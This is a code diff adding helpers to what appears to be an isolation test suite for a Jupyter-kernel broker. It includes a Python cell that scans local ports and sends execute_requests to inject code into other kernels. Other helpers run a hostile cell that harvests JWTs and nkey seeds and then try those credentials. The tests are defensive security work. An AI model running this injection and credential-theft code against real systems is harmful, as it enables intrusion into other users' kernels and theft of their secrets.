@@ -10,13 +10,16 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
 	"github.com/kernelbus/kernelbus/broker"
+	"github.com/kernelbus/kernelbus/frontend/client"
 	"github.com/kernelbus/kernelbus/jetstream/access"
+	"github.com/kernelbus/kernelbus/jetstream/jstest"
 	"github.com/nats-io/nats.go"
 	"github.com/nats-io/nkeys"
 )
@@ -82,6 +85,115 @@ except Exception as e:
 print("FOUND" + json.dumps(found))
 `
 
+// zmqCell sends, from kernel A, to every TCP port listening on 127.0.0.1
+// but its own, a ZMQ execute_request signed with A's own key and one
+// unsigned, whose code would create %[1]q; then the same, signed with A's
+// key, to A's own shell port, whose code creates %[2]q: the control that
+// runs, so the denials are not those of a malformed message.
+const zmqCell = `
+import json, hmac, hashlib, uuid
+res = {}
+def zmq_attack():
+    import zmq
+    from ipykernel.connect import get_connection_file
+    own = json.load(open(get_connection_file()))
+    mine = {v for k, v in own.items() if k.endswith("_port")}
+    ports = set()
+    for line in open("/proc/net/tcp").read().splitlines()[1:]:
+        f = line.split()
+        if f[3] == "0A" and f[1].startswith("0100007F:"):
+            p = int(f[1].split(":")[1], 16)
+            if p not in mine:
+                ports.add(p)
+    code = 'pwned_by_a = 1; open(%[1]q, "w").write("pwned")'
+    ctx = zmq.Context.instance()
+    replies = 0
+    for p in sorted(ports):
+        for key in (own["key"].encode(), b""):
+            s = ctx.socket(zmq.DEALER)
+            s.linger = 0
+            s.connect("tcp://127.0.0.1:%%d" %% p)
+            hdr = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "a", "session": uuid.uuid4().hex, "date": "2026-01-01T00:00:00Z", "version": "5.3"}
+            parts = [json.dumps(hdr).encode(), b"{}", b"{}", json.dumps({"code": code, "silent": False}).encode()]
+            sig = hmac.new(key, b"".join(parts), hashlib.sha256).hexdigest().encode() if key else b""
+            s.send_multipart([b"<IDS|MSG>", sig] + parts)
+            if s.poll(200):
+                replies += 1
+            s.close()
+    hdr = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "a", "session": uuid.uuid4().hex, "date": "2026-01-01T00:00:00Z", "version": "5.3"}
+    parts = [json.dumps(hdr).encode(), b"{}", b"{}", json.dumps({"code": 'open(%[2]q, "w").write("self")', "silent": False}).encode()]
+    s = ctx.socket(zmq.DEALER)
+    s.linger = 1000
+    s.connect("tcp://127.0.0.1:%%d" %% own["shell_port"])
+    s.send_multipart([b"<IDS|MSG>", hmac.new(own["key"].encode(), b"".join(parts), hashlib.sha256).hexdigest().encode()] + parts)
+    s.close()
+    res["ports"] = sorted(ports)
+    res["replies"] = replies
+try:
+    zmq_attack()
+except Exception:
+    import traceback
+    res["error"] = traceback.format_exc()
+print("ZMQ" + json.dumps(res))
+`
+
+// ZMQ makes kernel A (through conn) send execute_requests to every other
+// ZMQ port on 127.0.0.1, signed with the only key it has (its own) and
+// unsigned, whose code would create pwned in the kernel that runs it; then
+// the control, the same signed message to A's own shell port, which
+// creates selfMark in A once this cell ends (the caller checks both). It
+// returns the ports tried.
+func ZMQ(t testing.TB, conn *client.Conn, pwned, selfMark string) map[int]bool {
+	t.Helper()
+	r, err := conn.Execute(fmt.Sprintf(zmqCell, pwned, selfMark), 2*time.Minute)
+	if err != nil || r.Status != "ok" {
+		t.Fatalf("the ZMQ cell: %+v %v", r, err)
+	}
+	out := r.Stdout.String()
+	i := strings.Index(out, "ZMQ")
+	var res struct {
+		Ports   []int
+		Replies int
+		Error   string
+	}
+	if i < 0 || json.Unmarshal([]byte(strings.TrimSpace(out[i+len("ZMQ"):])), &res) != nil {
+		t.Fatalf("the ZMQ cell printed %q", out)
+	}
+	if res.Error != "" {
+		t.Fatalf("kernel A's ZMQ attempts failed: %s", res.Error)
+	}
+	t.Logf("kernel A sent signed and unsigned execute_requests to ports %v: %d replies", res.Ports, res.Replies)
+	tried := map[int]bool{}
+	for _, p := range res.Ports {
+		tried[p] = true
+	}
+	return tried
+}
+
+// KernelProc finds kernel id's ipykernel process on this host (seen from
+// the host's /proc) and its connection file.
+func KernelProc(t testing.TB, id string) (pid int, connFile string) {
+	t.Helper()
+	jstest.WaitFor(t, 30*time.Second, "kernel "+id+"'s process", func() bool {
+		dirs, _ := os.ReadDir("/proc")
+		for _, d := range dirs {
+			n, err := strconv.Atoi(d.Name())
+			if err != nil {
+				continue
+			}
+			cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", n))
+			for _, a := range strings.Split(string(cmd), "\x00") {
+				if strings.HasSuffix(a, "kernel-"+id+".json") && strings.Contains(string(cmd), "ipykernel") {
+					pid, connFile = n, a
+					return true
+				}
+			}
+		}
+		return false
+	})
+	return pid, connFile
+}
+
 // Loot is what the hostile cell printed.
 type Loot struct {
 	UID     int            `json:"uid"`
@@ -137,6 +249,23 @@ func ParseLoot(stdout string) (*Loot, error) {
 	return &l, nil
 }
 
+// Steal runs HostileCell in kernel A (through conn) and returns what it
+// found, logged.
+func Steal(t testing.TB, conn *client.Conn) *Loot {
+	t.Helper()
+	r, err := conn.Execute(HostileCell, 2*time.Minute)
+	if err != nil || r.Status != "ok" {
+		t.Fatalf("the hostile cell: %+v %v", r, err)
+	}
+	l, err := ParseLoot(r.Stdout.String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("kernel A (uid %d, launcher pid %d) found %d JWTs and %d seeds; sources %v; denied %d reads, e.g. %v",
+		l.UID, l.PID, len(l.JWTs), len(l.Seeds), l.Sources, len(l.Denied), l.Denied[:min(len(l.Denied), 5)])
+	return l
+}
+
 // Cred is a user JWT and nkey seed to try.
 type Cred struct{ Name, JWT, Seed string }
 
@@ -157,6 +286,50 @@ func (l *Loot) Creds() []Cred {
 		}
 	}
 	return out
+}
+
+// OwnCreds are kernel a's own launcher credentials, minted here with the
+// installation's minter file: the most code in A can ever hold.
+func OwnCreds(t testing.TB, minterFile, a string) Cred {
+	t.Helper()
+	minter, err := access.LoadMinter(minterFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	j, s, err := minter.Launcher(a, time.Hour)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return Cred{Name: "kernel A's own launcher credentials", JWT: j, Seed: s}
+}
+
+// RunAll dials with each credential (Dial) and, with each the server
+// accepts, runs Run against b in a subtest, then after (if not nil) in the
+// same subtest. It fails the test when none connected: creds should hold
+// A's own (OwnCreds), which connect.
+func RunAll(t *testing.T, urls, caFile string, creds []Cred, a, b string, after func(t *testing.T)) {
+	t.Helper()
+	connected := 0
+	for _, cr := range creds {
+		at, ok, err := Dial(urls, caFile, cr)
+		if err != nil {
+			t.Error(err)
+		}
+		if !ok {
+			continue
+		}
+		connected++
+		t.Run(cr.Name, func(t *testing.T) {
+			defer at.NC.Close()
+			Run(t, at, a, b)
+			if after != nil {
+				after(t)
+			}
+		})
+	}
+	if connected == 0 {
+		t.Fatal("no credential connected: the attacks ran with none (A's own minted credentials should connect)")
+	}
 }
 
 // Dial connects with cr over TLS trusting caFile; a refusal that is not an
